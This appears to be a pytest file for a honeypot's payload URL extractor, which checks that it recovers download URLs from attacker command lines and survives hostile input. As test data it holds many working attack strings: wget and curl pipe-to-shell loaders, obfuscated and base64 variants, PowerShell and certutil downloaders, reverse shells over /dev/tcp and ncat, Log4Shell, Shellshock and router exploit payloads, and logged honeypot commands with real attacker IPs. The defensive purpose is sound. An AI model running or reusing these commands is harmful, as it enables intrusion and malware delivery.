# SPDX-License-Identifier: MIT
"""The shared payload extractor: fetch commands, obfuscations, encodings, real payloads, hostile input.

Real payloads come from ``../shared/samples`` (Cowrie command lines and TTY logs, Tanner request
paths, Suricata ``http.url`` fields); those tests skip, saying why, when the folder is absent.
"""

from __future__ import annotations

import base64
import json
import random
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from honeyfarm.sensor.capture.payloads import MAX_INPUT, FoundURL, extract_urls, scan_payload
from honeyfarm.sensor.capture.urlnorm import FETCHABLE, normalise

pytestmark = pytest.mark.timeout(120)

SAMPLES = Path(__file__).resolve().parents[2] / "shared" / "samples"
needs_samples = pytest.mark.skipif(
    not SAMPLES.is_dir(), reason=f"real payload samples not found at {SAMPLES} (the shared folder is absent)"
)


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def ps_enc(s: str) -> str:
    return base64.b64encode(s.encode("utf-16-le")).decode()


def details(found: list[FoundURL]) -> list[tuple[str, str, str, bool]]:
    return [(f.url, f.how, f.via, f.fetchable) for f in found]


def urls(payload: str | bytes) -> list[tuple[str, str]]:
    return [(f.url, f.how) for f in extract_urls(payload)]


# -- fetch commands and obfuscations (synthetic, each a form seen in the wild) -----------------

FETCH_COMMANDS: list[tuple[str, list[tuple[str, str]]]] = [
    (
        "cd /tmp; wget http://45.14.224.10/bins.sh; chmod 777 bins.sh; sh bins.sh",
        [("http://45.14.224.10/bins.sh", "wget")],
    ),
    ("curl -s http://evil.example.com/x.sh | sh", [("http://evil.example.com/x.sh", "curl")]),
    ("curl -o f http://evil.example.com/f", [("http://evil.example.com/f", "curl")]),
    ("curl -fsSLo /tmp/k https://evil.example.com/k", [("https://evil.example.com/k", "curl")]),
    ("curl --url evil.example.com/u -A 'Mozilla/5.0 (X11; Linux)'", [("http://evil.example.com/u", "curl")]),
    ("wget -qO- 185.1.2.3/x | bash", [("http://185.1.2.3/x", "wget")]),
    ("wget -q -O - 185.1.2.3:8080/mips | sh", [("http://185.1.2.3:8080/mips", "wget")]),
    ("busybox wget http://185.1.2.3:80/a.arm7 -O a", [("http://185.1.2.3/a.arm7", "wget")]),
    ("/bin/busybox tftp -g -r file -l out 1.2.3.4", [("tftp://1.2.3.4/file", "tftp")]),
    ("tftp -g -l dvr -r mips 1.2.3.4 6969", [("tftp://1.2.3.4:6969/mips", "tftp")]),
    ("tftp 1.2.3.4 -c get file", [("tftp://1.2.3.4/file", "tftp")]),
    ("tftp -i 1.2.3.4 GET win.exe", [("tftp://1.2.3.4/win.exe", "tftp")]),
    ("ftpget -u a -p b host.example.net local remote", [("ftp://a:b@host.example.net/remote", "ftpget")]),
    (
        "ftpget -v -u anonymous -p x -P 2121 1.2.3.4 a.sh /pub/a.sh",
        [("ftp://anonymous:x@1.2.3.4:2121/pub/a.sh", "ftpget")],
    ),
    ("cd${IFS}/tmp;wget${IFS}http://1.2.3.4/a.sh", [("http://1.2.3.4/a.sh", "wget")]),
    ("cd$IFS$9/tmp;wget$IFS$9http://1.2.3.4/b.sh", [("http://1.2.3.4/b.sh", "wget")]),
    ("wget${IFS%??}http://1.2.3.4/c.sh", [("http://1.2.3.4/c.sh", "wget")]),
    ("'w'g'e't http://1.2.3.4/d", [("http://1.2.3.4/d", "wget")]),
    ('"w"get 1.2.3.4/e', [("http://1.2.3.4/e", "wget")]),
    (r"\w\g\e\t http://1.2.3.4/f", [("http://1.2.3.4/f", "wget")]),
    ("wg\\\net http://1.2.3.4/g", [("http://1.2.3.4/g", "wget")]),
    ("$(echo d2dldA== | base64 -d) 1.2.3.4/h", [("http://1.2.3.4/h", "wget")]),
    (r"\x77\x67\x65\x74 http://1.2.3.4/hex", [("http://1.2.3.4/hex", "wget")]),
    (r"printf '\167\147\145\164 http://1.2.3.4/oct' | sh", [("http://1.2.3.4/oct", "wget")]),
    ("{wget,http://1.2.3.4/brace}", [("http://1.2.3.4/brace", "wget")]),
    (
        "echo " + b64("cd /tmp; wget http://9.9.9.9/bins.sh; sh bins.sh") + " | base64 -d | sh",
        [("http://9.9.9.9/bins.sh", "wget")],
    ),
    ("base64 -d <<< " + b64("curl http://9.9.9.8/z|sh") + " | bash", [("http://9.9.9.8/z", "curl")]),
    ("nohup sh -c 'curl -k https://[2001:db8::1]:8443/x -o /tmp/x' &", [("https://[2001:db8::1]:8443/x", "curl")]),
    ("wget http://2130706433/int", [("http://127.0.0.1/int", "wget")]),
    ("WGET HTTP://EVIL.EXAMPLE.COM:80/Case", [("http://evil.example.com/Case", "wget")]),
]

WINDOWS_AND_SCRIPTS: list[tuple[str, list[tuple[str, str]]]] = [
    (
        "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')\"",
        [("http://evil.example.com/a.ps1", "powershell")],
    ),
    (
        "(New-Object System.Net.WebClient).DownloadFile('http://evil.example.com/b.exe', \"$env:TEMP\\b.exe\")",
        [("http://evil.example.com/b.exe", "powershell")],
    ),
    (
        "powershell IWR -Uri http://evil.example.com/c.exe -OutFile c.exe",
        [("http://evil.example.com/c.exe", "powershell")],
    ),
    ("Invoke-WebRequest -Uri 'https://evil.example.com/d' -OutFile d", [("https://evil.example.com/d", "powershell")]),
    (
        "powershell -c \"I`E`X (iwr 'http://evil.example.com/'+'e.ps1')\"",
        [("http://evil.example.com/e.ps1", "powershell")],
    ),
    (
        "certutil -urlcache -split -f http://evil.example.com/f.exe f.exe",
        [("http://evil.example.com/f.exe", "certutil")],
    ),
    ("certutil.exe -urlcache -f http://evil.example.com/g.exe", [("http://evil.example.com/g.exe", "certutil")]),
    (
        "bitsadmin /transfer job /download /priority high http://evil.example.com/h.exe C:\\h.exe",
        [("http://evil.example.com/h.exe", "bitsadmin")],
    ),
    ("mshta http://evil.example.com/i.hta", [("http://evil.example.com/i.hta", "mshta")]),
    ("regsvr32 /s /n /u /i:http://evil.example.com/j.sct scrobj.dll", [("http://evil.example.com/j.sct", "regsvr32")]),
    ("php -r 'file_get_contents(\"http://evil.example.com/k\");'", [("http://evil.example.com/k", "php")]),
    (
        "python3 -c \"import urllib.request as u;u.urlretrieve('http://evil.example.com/l','l')\"",
        [("http://evil.example.com/l", "python")],
    ),
    ('perl -MLWP::Simple -e \'getstore("http://evil.example.com/m","m")\'', [("http://evil.example.com/m", "perl")]),
]

HTTP_EXPLOITS: list[tuple[str, list[tuple[str, str]]]] = [
    (
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http://5.6.7.8/a.sh%20-O-|sh)",
        [("http://5.6.7.8/a.sh", "wget")],
    ),
    (
        "GET /shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/jaws;sh+/tmp/jaws HTTP/1.1",
        [("http://1.2.3.4/jaws", "wget")],
    ),
    (
        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4:44/Mozi.m+-O+/tmp/netgear;"
        "sh+netgear&curpath=/&currentsetting.htm=1",
        [("http://1.2.3.4:44/Mozi.m", "wget")],
    ),
    (  # double percent-encoding
        "/x?c=" + quote(quote("curl http://7.7.7.7/dbl|sh", safe=""), safe=""),
        [("http://7.7.7.7/dbl", "curl")],
    ),
    (  # JSON body of a Docker create
        '{"Image":"alpine","Cmd":["sh","-c","wget http://1.2.3.4/a.sh -O /tmp/a; sh /tmp/a"],"HostConfig":{}}',
        [("http://1.2.3.4/a.sh", "wget")],
    ),
    (  # JSON-escaped slashes, as a serialised script carries them
        '{"script":"cmd = \\"curl http:\\/\\/1.2.3.4\\/es.sh\\""}',
        [("http://1.2.3.4/es.sh", "curl")],
    ),
    (  # Redis cron write
        "\n\n*/1 * * * * root curl -fsSL http://1.2.3.4/init.sh | sh\n\n",
        [("http://1.2.3.4/init.sh", "curl")],
    ),
    (  # Satori's Huawei HG532 exploit gives tftp's flags to busybox wget
        "<NewStatusURL>$(/bin/busybox wget -g 45.9.8.7 -l /tmp/mips -r /mips)</NewStatusURL>",
        [("http://45.9.8.7/mips", "wget")],
    ),
    (  # Mirai-style loader: every fetch tool in turn
        "cd /tmp || cd /var/run || cd /; wget http://1.2.3.4/bins.sh; curl -O http://1.2.3.4/bins.sh; "
        "chmod 777 bins.sh; sh bins.sh; tftp 1.2.3.4 -c get tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 1.2.3.4; "
        "ftpget -v -u anonymous -p anonymous -P 21 1.2.3.4 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf *",
        [
            ("http://1.2.3.4/bins.sh", "wget"),
            ("tftp://1.2.3.4/tftp1.sh", "tftp"),
            ("tftp://1.2.3.4/tftp2.sh", "tftp"),
            ("ftp://anonymous:anonymous@1.2.3.4/ftp1.sh", "ftpget"),
        ],
    ),
    (  # Linksys tmUnblock.cgi body
        "ttcp_ip=-h+%60cd+%2Ftmp%3B+rm+-rf+mpsl%3B+wget+http%3A%2F%2F1.2.3.4%2Fmpsl%3B+chmod+777+mpsl%3B+.%2Fmpsl%60",
        [("http://1.2.3.4/mpsl", "wget")],
    ),
    (  # Elasticsearch Groovy script
        '{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime()'
        '.exec(\\"wget http://1.2.3.4/es -O /tmp/es\\").getText()"}',
        [("http://1.2.3.4/es", "wget")],
    ),
    (  # JNDI exploit kit brace expansion
        "bash -c {echo," + b64("curl http://1.2.3.4/l4j") + "}|{base64,-d}|{bash,-i}",
        [("http://1.2.3.4/l4j", "curl")],
    ),
    (  # Shellshock in a header
        '() { :; }; /bin/bash -c "cd /tmp; curl -O http://1.2.3.4/ss; chmod +x ss; ./ss"',
        [("http://1.2.3.4/ss", "curl")],
    ),
    ("/index.php?page=http://evil.example.com/shell.txt?", [("http://evil.example.com/shell.txt", "url")]),
    ("/download?file=http%3A%2F%2Fevil.example.com%2Frfi.txt", [("http://evil.example.com/rfi.txt", "url")]),
]


@pytest.mark.parametrize(("payload", "expected"), FETCH_COMMANDS + WINDOWS_AND_SCRIPTS + HTTP_EXPLOITS)
def test_finds_each_fetch_form(payload: str, expected: list[tuple[str, str]]) -> None:
    assert urls(payload) == expected
    assert urls(payload.encode()) == expected  # bytes in, same answer


def test_powershell_encoded_command_is_utf16le_base64() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/enc.ps1')"
    for flag in ("-enc", "-EncodedCommand", "-e", "-ec"):
        found = extract_urls(f"powershell.exe -NoP -NonI -W Hidden {flag} {ps_enc(script)}")
        assert details(found) == [("http://evil.example.com/enc.ps1", "powershell", "powershell-enc", True)], flag


def test_via_names_the_encodings_undone() -> None:
    inner = "echo " + b64("wget http://1.2.3.4/deep -O- | sh") + " | base64 -d | sh"
    outer = "/cgi-bin/x?c=" + quote("sh -c '" + "echo " + b64(inner) + " | base64 -d | sh'", safe="")
    assert details(extract_urls(outer)) == [("http://1.2.3.4/deep", "wget", "urlencode+base64+base64", True)]


def test_log4shell_is_an_indicator_not_a_download() -> None:
    payload = "${jndi:ldap://45.1.2.3:1389/Exploit}"
    assert extract_urls(payload) == []
    scan = scan_payload(payload)
    assert details(scan.others) == [("ldap://45.1.2.3:1389/Exploit", "jndi", "", False)]
    assert scan.others == [FoundURL("ldap://45.1.2.3:1389/Exploit", "jndi")]  # (url, how) is the identity


def test_log4shell_exfiltration_lookups_keep_the_callback_host() -> None:
    scan = scan_payload("User-Agent: ${jndi:ldap://${hostName}.${env:USER}.c6qe.l4j.example.com/a}")
    assert [(f.url, f.how) for f in scan.others] == [("ldap://x.x.c6qe.l4j.example.com/a", "jndi")]


def test_obfuscated_log4shell_with_a_base64_command_yields_both() -> None:
    cmd = b64("wget http://1.2.3.4/x.sh -O-|sh")
    payload = "${${lower:j}${::-n}di:${lower:l}dap://evil.example.com:1389/Basic/Command/Base64/" + cmd + "}"
    scan = scan_payload(payload)
    assert [(f.url, f.how, f.via) for f in scan.urls] == [("http://1.2.3.4/x.sh", "wget", "base64")]
    assert [(f.url[:40], f.how) for f in scan.others] == [("ldap://evil.example.com:1389/Basic/Comma", "jndi")]


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ("nc 1.2.3.4 4444 | sh", [("tcp://1.2.3.4:4444", "nc")]),
        ("ncat -e /bin/sh evil.example.com 9001", [("tcp://evil.example.com:9001", "nc")]),
        ("nc -lvnp 4444", []),  # a listener names no peer
        ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", [("tcp://1.2.3.4:4444", "devtcp")]),
        ("exec 3<>/dev/tcp/evil.example.com/80", [("tcp://evil.example.com:80", "devtcp")]),
    ],
)
def test_raw_tcp_targets_are_indicators(payload: str, expected: list[tuple[str, str]]) -> None:
    scan = scan_payload(payload)
    assert scan.urls == []
    assert [(f.url, f.how) for f in scan.others] == expected
    assert all(not f.fetchable for f in scan.others)


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ("wget http://evil.example.com/a%20b.sh", ["http://evil.example.com/a%20b.sh"]),  # not cut at %20
        ("curl http://evil.example.com/a+b.sh", ["http://evil.example.com/a+b.sh"]),
        ("wget http://1.2.3.4/a.sh&&sh a.sh", ["http://1.2.3.4/a.sh"]),
        ("wget http://1.2.3.4/x.php?a=1&b=2", ["http://1.2.3.4/x.php?a=1"]),  # the shell splits at "&"
        ("(iwr 'http://1.2.3.4/x.php?a=1&b=2')", ["http://1.2.3.4/x.php?a=1&b=2"]),
        (b"wget http://1.2.3.4/caf\xe9", ["http://1.2.3.4/caf%E9"]),  # bytes that are not UTF-8 kept as they were
        ("wget http://\u00e9vil.example.com/idn", ["http://xn--vil-9la.example.com/idn"]),
        ("wget ftp://user:p%40ss@evil.example.com/f", ["ftp://user:p%40ss@evil.example.com/f"]),
    ],
)
def test_url_edges(payload: str | bytes, expected: list[str]) -> None:
    assert [f.url for f in extract_urls(payload)] == expected


def test_order_is_kept_and_duplicates_dropped() -> None:
    payload = (
        "wget http://1.1.1.1/a; curl -O http://1.1.1.1/a; "
        "echo " + b64("wget http://2.2.2.2/b") + " | base64 -d | sh; "
        "tftp -g -r c 3.3.3.3; wget http://1.1.1.1/a"
    )
    assert urls(payload) == [("http://1.1.1.1/a", "wget"), ("http://2.2.2.2/b", "wget"), ("tftp://3.3.3.3/c", "tftp")]


def test_max_urls_caps_the_answer() -> None:
    payload = " ; ".join(f"wget http://10.0.{i // 250}.{i % 250 + 1}/x" for i in range(100))
    found = extract_urls(payload, max_urls=5)
    assert [f.url for f in found] == [f"http://10.0.0.{i}/x" for i in range(1, 6)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("http://Evil.Example.COM:80/a", "http://evil.example.com/a"),
        ("https://evil.example.com:443/a#frag", "https://evil.example.com/a"),
        ("'http://evil.example.com/a.sh';", "http://evil.example.com/a.sh"),
        ("(http://evil.example.com/a).", "http://evil.example.com/a"),
        ("http://evil.example.com/a b", "http://evil.example.com/a%20b"),
        ("tftp://1.2.3.4:69/x", "tftp://1.2.3.4/x"),
        ("http://0x7f000001/", "http://127.0.0.1/"),
        ("http://[2001:DB8:0::1]/", "http://[2001:db8::1]/"),
        ("http://evil..com/", None),
        ("http://999.1.1.1/", None),
        ("http://5.0/", None),
        ("http://nodots/", None),
        ("http://evil.example.com:0/", None),
        ("tftp://1.2.3.4/", None),
        ("ldap://evil.example.com/", None),
        ("javascript://evil.example.com/", None),
    ],
)
def test_normalise(text: str, expected: str | None) -> None:
    assert normalise(text) == expected


# -- no false URLs ---------------------------------------------------------------------------

NEGATIVES = [
    "Please curl up with a good book. Visit example.com and read the 5.0 docs.",
    "wget and curl are both tools; use whichever you like",
    "/debian/pool/main/w/wget/wget_1.18-4_amd64.deb",
    "/ubuntu-ports/pool/main/c/curl/libcurl4_7.81.0-1ubuntu1.7_arm64.deb",
    "GET /index.html HTTP/1.1\r\nHost: www\r\nUser-Agent: Wget/1.21.3\r\n\r\n",
    "cd /tmp; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
    "tftp; wget; /bin/busybox QSDWQ",
    "enable\nsystem\nshell\nsh\ncat /proc/mounts; /bin/busybox ECCHI",
    "echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'",
    "sha256 9cf2c76b2d529d07e4d7882c008329b72c92ca9d92d53ca801bd7730d1f4b929 " + "A" * 40,
    "/v1.51/events?filters=%7B%22type%22%3A%7B%22container%22%3Atrue%7D%7D",
    "curl -o bins.sh; wget -O x.sh",
    "ftp://; http://; tftp://:69/",
    "${jndi:ldap://}",
    "nc 1.2.3.4",
    "version 1.2.3 of wget 1.21 and curl 7.81",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
]


@pytest.mark.parametrize("text", NEGATIVES)
def test_no_urls_from_plain_text(text: str) -> None:
    scan = scan_payload(text)
    assert scan.urls == [] and scan.others == []


# -- real payloads (../shared/samples) -------------------------------------------------------


def json_lines(path: Path) -> Iterator[dict[str, Any]]:
    for line in path.read_text(errors="replace").splitlines():
        if line.strip():
            try:
                rec = json.loads(line)
            except ValueError:
                continue  # the "broken" sample is broken on purpose
            if isinstance(rec, dict):
                yield rec


REAL_COMMANDS = [  # (sample file, command line as logged, URLs it must yield)
    ("kareiva-cowrie-logs_2018-05-24.cowrie.json", "wget http://mdb7.cn:8081/exp", ["http://mdb7.cn:8081/exp"]),
    (
        "kareiva-cowrie-logs_2018-05-24.cowrie.json",
        "/etc/init.d/iptables stop;service iptables stop;SuSEfirewall2 stop;reSuSEfirewall2 stop;cd /tmp;"
        'wget -c http://96.44.186.212:7744/tfhy;chmod 777 tfhy;./tfhy;echo "cd /tmp/">>/etc/rc.local;'
        'echo "./tfhy&">>/etc/rc.local;echo "/etc/init.d/iptables stop">>/etc/rc.local;',
        ["http://96.44.186.212:7744/tfhy"],
    ),
    (
        "kareiva-cowrie-logs_2018-05-24.cowrie.json",
        "#!/bin/sh\nPATH=$PATH:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\n"
        "wget http://104.223.213.141/a21jj\ncurl -O http://104.223.213.141/a21jj\nchmod +x a21jj\n./a21jj\n",
        ["http://104.223.213.141/a21jj"],
    ),
    (
        "kareiva-cowrie-logs_2018-06-12.cowrie.json",
        "uname -a; wget http://54.37.72.170/n3; curl -O http://54.37.72.170/n3; perl n3; rm -rf n3; rm -rf n3.*",
        ["http://54.37.72.170/n3"],
    ),
    (
        "scriptzteam-realtime-ssh-honeypot_2017-11-15.cowrie.json",
        "wget http://27.148.158.148:10187/577",
        ["http://27.148.158.148:10187/577"],
    ),
    ("hoanb1-cowrie-honeypot_2026-02-19.cowrie.json", "curl -I freexoso.com", ["http://freexoso.com/"]),
    ("ranguli-honeylist_2019-07.cowrie.json", "tftp; wget; /bin/busybox QSDWQ", []),
]


@needs_samples
@pytest.mark.parametrize(("sample", "command", "expected"), REAL_COMMANDS)
def test_real_cowrie_commands(sample: str, command: str, expected: list[str]) -> None:
    logged = {r.get("input") for r in json_lines(SAMPLES / "cowrie_json" / sample)}
    assert command in logged, "the table must quote the sample verbatim"
    assert [f.url for f in extract_urls(command)] == expected


@needs_samples
def test_every_url_cowrie_downloaded_is_found_in_that_sessions_commands() -> None:
    checked = 0
    for path in sorted((SAMPLES / "cowrie_json").glob("*.json")):
        commands: dict[str, list[str]] = {}
        downloads: list[tuple[str, str]] = []
        for r in json_lines(path):
            if r.get("eventid") == "cowrie.command.input":
                commands.setdefault(r["session"], []).append(r.get("input", ""))
            elif r.get("eventid", "").startswith("cowrie.session.file_download") and "://" in str(r.get("url")):
                downloads.append((r["session"], r["url"]))
        for session, url in downloads:
            found = {f.url for c in commands.get(session, []) for f in extract_urls(c)}
            assert url in found, (path.name, session, url)
            checked += 1
    assert checked >= 15


@needs_samples
def test_real_tty_logs() -> None:
    tty = SAMPLES / "cowrie_ttylog"
    got = {p.name: [f.url for f in extract_urls(p.read_bytes())] for p in sorted(tty.glob("*.log"))}
    assert got == {
        "kareiva-20180521-112417-9a500fd35329-0i.log": [
            "http://115.239.248.235:283/systma",
            "http://115.239.248.235:283/sysem",
        ],
        "kareiva-20180522-144034-491ea73d2c48-0i.log": [
            "http://115.239.248.235:283/sysem",
            "http://115.239.248.235:283/systma",
        ],
        "kareiva-20180524-100022-23c5bd073f0d-0e.log": ["http://96.44.186.212:7744/tfhy"],
    }


@needs_samples
def test_real_web_requests_yield_no_false_urls() -> None:
    """Tanner's scanner paths and Suricata's HTTP URLs (apt mirrors, the Docker API) hold no download."""
    payloads: list[str] = []
    for r in json_lines(next((SAMPLES / "tanner_report").glob("*.json"))):
        payloads.append(str(r.get("path", "")))
        if r.get("post_data"):
            payloads.append(json.dumps(r["post_data"]))
    for path in sorted((SAMPLES / "suricata_eve").glob("*.json")):
        for r in json_lines(path):
            http = r.get("http")
            if isinstance(http, dict) and http.get("url"):
                payloads.append(str(http["url"]))
    assert len(payloads) >= 4000
    hits = [(p, scan_payload(p)) for p in payloads]
    assert [(p, s) for p, s in hits if s.urls or s.others] == []


# -- hostile input ---------------------------------------------------------------------------

HOSTILE = {
    "10 MB of one letter": "a" * 10_000_000,
    "10 MB of base64 alphabet": "QUFB" * 2_500_000,
    "schemes": "http://" * 200_000,
    "dotted hosts": "http://a." * 150_000,
    "tool words": "wget " * 250_000,
    "tools in words": "anc " * 250_000,
    "unclosed quote": "wget '" + "a" * 1_000_000,
    "dollar braces": "${" * 500_000,
    "IFS": "${IFS" * 200_000,
    "lookups": "${lower:" * 100_000,
    "quotes": "'\"" * 500_000,
    "short quoted words": "'a'" * 330_000,
    "escapes": "\\x41" * 250_000,
    "backslashes": "\\" * 1_000_000,
    "hex escapes": "\\x7" * 300_000,
    "percents": "%" * 1_000_000,
    "double percent": "%25" * 300_000,
    "pluses": "a+" * 500_000,
    "braces": "{a," * 300_000,
    "jndi": "${jndi:ldap://" * 70_000,
    "dev tcp": "/dev/tcp/" * 100_000,
    "echo pipes": ("echo " + "QUFB" * 1000 + " ") * 250,
    "base64 words": " ".join(base64.b64encode(random.Random(1).randbytes(30)).decode() for _ in range(25_000)),
    "base64 text blobs": " ".join(b64(f"hello world this is text {i}") for i in range(25_000)),
    "option clusters": "curl -o " * 100_000,
    "powershell flags": "powershell " + "-e AAAA" * 150_000,
    "unpiped echo": "echo '" + "QUFB" * 250_000,
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_input_is_bounded(name: str) -> None:
    payload = HOSTILE[name]
    start = time.perf_counter()
    scan = scan_payload(payload)
    elapsed = time.perf_counter() - start
    assert elapsed < 3.0, f"{name}: {elapsed:.2f} s"
    assert len(scan.urls) <= 16 and len(scan.others) <= 8


def test_random_megabyte_is_bounded() -> None:
    data = random.Random(7).randbytes(MAX_INPUT)
    start = time.perf_counter()
    scan_payload(data)
    assert time.perf_counter() - start < 3.0


def test_only_the_first_megabyte_is_read() -> None:
    payload = "x" * MAX_INPUT + " wget http://1.2.3.4/late"
    assert extract_urls(payload) == []
    assert urls("x" * (MAX_INPUT - 100) + " wget http://1.2.3.4/in") == [("http://1.2.3.4/in", "wget")]


def test_nested_base64_is_followed_four_layers_and_no_further() -> None:
    def nest(n: int) -> str:
        p = "wget http://1.2.3.4/deep"
        for _ in range(n):
            p = "echo " + b64(p) + " | base64 -d | sh"
        return p

    assert details(extract_urls(nest(4))) == [("http://1.2.3.4/deep", "wget", "base64+base64+base64+base64", True)]
    start = time.perf_counter()
    assert extract_urls(nest(12)) == []
    assert time.perf_counter() - start < 1.0


def mutations(rng: random.Random, seeds: list[bytes]) -> Iterator[bytes]:
    for _ in range(400):
        data = bytearray(rng.choice(seeds))
        for _ in range(rng.randint(1, 8)):
            op = rng.randrange(4)
            at = rng.randrange(len(data) + 1)
            if op == 0:
                data[at:at] = rng.randbytes(rng.randint(1, 16))
            elif op == 1 and data:
                del data[at : at + rng.randint(1, 16)]
            elif op == 2:
                data[at:at] = rng.choice([b"${IFS}", b"'", b'"', b"\\", b"%2", b"$(", b"|base64 -d", b"://", b"\n"])
            else:
                data = data[:at]
        yield bytes(data)
    for n in (0, 1, 7, 100, 4096):
        yield rng.randbytes(n)


def test_fuzz_mutated_payloads() -> None:
    rng = random.Random(12)
    seeds = [p.encode() for p, _ in FETCH_COMMANDS + WINDOWS_AND_SCRIPTS + HTTP_EXPLOITS] + [
        n.encode() for n in NEGATIVES
    ]
    start = time.perf_counter()
    texts = ["".join(chr(rng.randrange(0x110000)) for _ in range(200)) for _ in range(50)]
    texts += ["wget http://1.2.3.4/\ud800x", "curl http://1.2.3.4/\\ud800", json.loads('"wget http://1.2.3.4/\\udfff"')]
    for data in [*mutations(rng, seeds), *texts]:
        scan = scan_payload(data)
        for f in scan.urls:
            assert f.fetchable and f.url.split(":", 1)[0] in FETCHABLE
            assert len(f.url) <= 2048 and f.url.isascii() and not any(c.isspace() for c in f.url)
            assert normalise(f.url) == f.url  # normal form is stable
        assert all(not f.fetchable for f in scan.others)
    assert time.perf_counter() - start < 60
